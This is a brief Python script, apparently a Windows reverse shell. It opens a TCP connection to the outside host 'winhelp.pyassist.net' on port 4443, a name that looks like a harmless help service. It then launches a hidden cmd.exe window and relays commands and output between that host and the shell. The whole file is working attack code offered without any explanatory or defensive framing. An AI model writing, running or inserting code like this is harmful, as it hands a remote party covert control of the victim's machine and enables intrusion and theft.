import socket
import subprocess
import threading

ADDR = ("winhelp.pyassist.net", 4443)

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(ADDR)
p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=subprocess.STDOUT, creationflags=0x08000000)


def sock_to_proc():
    while True:
        data = s.recv(1024)
        if not data:
            break
        p.stdin.write(data)
        p.stdin.flush()


def proc_to_sock():
    while True:
        out = p.stdout.read1(1024) if hasattr(p.stdout, "read1") else p.stdout.read(1)
        if not out:
            break
        s.sendall(out)


threading.Thread(target=sock_to_proc, daemon=True).start()
proc_to_sock()
